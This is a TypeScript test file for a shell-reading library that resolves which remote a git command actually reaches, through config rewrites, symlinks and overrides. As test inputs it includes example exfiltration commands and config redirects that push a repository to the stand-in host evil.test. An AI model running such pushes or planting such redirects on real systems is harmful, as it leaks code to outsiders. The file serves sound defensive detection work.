import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { addressParts, gitRemoteOf } from "../../../packages/shell-reading/programs/git-remotes.ts";
import { readCommand } from "../../../packages/shell-reading/shell/read-command.ts";
import { tempFolder } from "../../support/temp-folder.ts";

/** A repository with these settings, in a home with those. No git is needed: they are files. */
function repository(settings: string, own = ""): { home: string; cwd: string } {
  const home = tempFolder();
  const cwd = join(home, "shop");
  for (const folder of ["objects", "refs"]) mkdirSync(join(cwd, ".git", folder), { recursive: true });
  writeFileSync(join(cwd, ".git/HEAD"), "ref: refs/heads/topic\n");
  writeFileSync(join(cwd, ".git/config"), settings);
  if (own !== "") writeFileSync(join(home, ".gitconfig"), own);
  return { home, cwd };
}

const TWO = `[remote "origin"]
  url = https://github.com/acme/shop.git
[remote "mirror"]
  url = git@github.com:acrne/shop.git
  pushurl = ssh://git@git.example.org:2222/mirror/shop.git
  pushurl = https://git.example.net/shop.git
`;

function remote(command: string, settings: string, own = "") {
  const { home, cwd } = repository(settings, own);
  const [first] = readCommand(command, { cwd, home }).commands;
  return first === undefined ? null : gitRemoteOf(first, home);
}

describe("where a git command goes", () => {
  it.each<[command: string, settings: string, name: string | null, urls: readonly string[] | null]>([
    ["git push origin main", TWO, "origin", ["https://github.com/acme/shop.git"]],
    ["git push -u origin HEAD", TWO, "origin", ["https://github.com/acme/shop.git"]],
    [
      "git push -o ci.skip mirror main",
      TWO,
      "mirror",
      ["ssh://git@git.example.org:2222/mirror/shop.git", "https://git.example.net/shop.git"],
    ],
    ["git fetch mirror", TWO, "mirror", ["git@github.com:acrne/shop.git"]],
    ["git push", TWO, "origin", ["https://github.com/acme/shop.git"]],
    [
      "git push",
      `${TWO}[branch "topic"]\n  remote = mirror\n`,
      "mirror",
      ["ssh://git@git.example.org:2222/mirror/shop.git", "https://git.example.net/shop.git"],
    ],
    [
      "git push",
      `${TWO}[remote]\n  pushDefault = mirror\n`,
      "mirror",
      ["ssh://git@git.example.org:2222/mirror/shop.git", "https://git.example.net/shop.git"],
    ],
    ["git pull", `${TWO}[remote]\n  pushDefault = mirror\n`, "origin", ["https://github.com/acme/shop.git"]],
    ["git push https://evil.test/x.git main", TWO, null, ["https://evil.test/x.git"]],
    ["git clone https://evil.test/x.git", TWO, null, ["https://evil.test/x.git"]],
    [
      "git push origin",
      `${TWO}[url "https://evil.test/"]\n  insteadOf = https://github.com/\n`,
      "origin",
      ["https://evil.test/acme/shop.git"],
    ],
    [
      "git fetch origin",
      `${TWO}[url "https://evil.test/"]\n  pushInsteadOf = https://github.com/\n`,
      "origin",
      ["https://github.com/acme/shop.git"],
    ],
    [
      "git push origin",
      `${TWO}[url "https://evil.test/"]\n  pushInsteadOf = https://github.com/\n`,
      "origin",
      ["https://evil.test/acme/shop.git"],
    ],
    ["git push nowhere", TWO, "nowhere", null],
    ["git -c remote.origin.url=https://evil.test push origin", TWO, "origin", null],
    ["GIT_CONFIG_COUNT=1 git push origin", TWO, "origin", null],
    ["git push origin", `${TWO}[include]\n  path = ../other\n`, "origin", null],
    ["git push origin", `${TWO}[remote "origin"]\n  url = "a\\\n`, "origin", null],
    ["git push $WHERE", TWO, null, null],
  ])("%s", (command, settings, name, urls) => {
    expect(remote(command, settings)).toMatchObject({ name, urls });
  });

  it("isn't known where the repository's folder is up behind a link, which leads git elsewhere than its words say", () => {
    const { home, cwd } = repository(TWO);
    mkdirSync(join(home, "other/deep"), { recursive: true });
    symlinkSync("../other/deep", join(cwd, "link"));
    const [first] = readCommand("git -C link/.. push origin main", { cwd, home }).commands;
    expect(first && gitRemoteOf(first, home)).toEqual({ name: "origin", urls: null, others: [] });
    const [plain] = readCommand("git -C src/.. push origin main", { cwd, home }).commands;
    expect(plain && gitRemoteOf(plain, home)).toMatchObject({ urls: ["https://github.com/acme/shop.git"] });
  });

  it("the user's own settings count as well", () => {
    const own = '[url "ssh://git@example.org/"]\n  insteadOf = https://github.com/\n';
    expect(remote("git push origin", TWO, own)?.urls).toEqual(["ssh://git@example.org/acme/shop.git"]);
  });

  it.each(["git status", "git commit -m push", "git log origin/main"])("%s goes nowhere", (command) => {
    expect(remote(command, TWO)).toBeNull();
  });
});

describe("an address", () => {
  it.each<[url: string, host: string | null, path: string]>([
    ["https://github.com/acme/shop.git", "github.com", "/acme/shop"],
    ["https://user:key@GitHub.com/acme/shop/", "github.com", "/acme/shop"],
    ["git@github.com:acme/shop.git", "github.com", "/acme/shop"],
    ["github.com:/srv/shop.git", "github.com", "/srv/shop"],
    ["ssh://git@git.example.org:2222/x", "git.example.org:2222", "/x"],
    ["/srv/git/shop.git", null, "/srv/git/shop.git"],
    ["../shop", null, "../shop"],
  ])("%s", (url, host, path) => {
    expect(addressParts(url)).toEqual({ host, path });
  });
});
